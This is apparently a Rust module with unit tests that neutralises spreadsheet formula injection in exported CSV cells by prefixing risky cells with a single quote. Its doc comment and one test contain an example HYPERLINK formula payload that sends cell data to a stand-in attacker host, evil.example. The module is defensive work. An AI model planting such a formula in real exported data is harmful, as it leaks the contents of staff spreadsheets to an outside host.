//! Cells of a CSV file staff open in a spreadsheet.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some programs,
//! one that starts with a tab or carriage return before those) as a formula: a recipient
//! typed as `=HYPERLINK("https://evil.example/?"&A1, "Click")` would run when the register
//! is opened. [`csv_safe`] prefixes such a cell with a single quote, which every spreadsheet
//! shows as text. Quoting (commas, quotes, new lines) is the CSV writer's job, not this one.

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula.
pub const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// `cell`, safe to open in a spreadsheet: prefixed with `'` when it starts with one of
/// [`FORMULA_STARTS`], after any leading spaces (some programs skip them); otherwise
/// unchanged (not copied).
pub fn csv_safe(cell: &str) -> Cow<'_, str> {
    if cell.trim_start_matches(' ').starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_plain_text_is_left_alone() {
        assert_eq!(
            csv_safe("=HYPERLINK(\"https://evil.example\",\"x\")"),
            "'=HYPERLINK(\"https://evil.example\",\"x\")"
        );
        assert_eq!(csv_safe("+44 1642 000000"), "'+44 1642 000000");
        assert_eq!(csv_safe("-1"), "'-1");
        assert_eq!(csv_safe("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_safe("\t=1"), "'\t=1");
        assert_eq!(csv_safe("\r=1"), "'\r=1");
        assert_eq!(csv_safe("  =1"), "'  =1");
        assert_eq!(csv_safe("\nx"), "'\nx");
        assert_eq!(csv_safe("Cleveland Police"), "Cleveland Police");
        assert_eq!(csv_safe("a=b"), "a=b");
        assert_eq!(csv_safe(""), "");
        assert!(matches!(csv_safe("plain"), Cow::Borrowed(_)));
    }
}
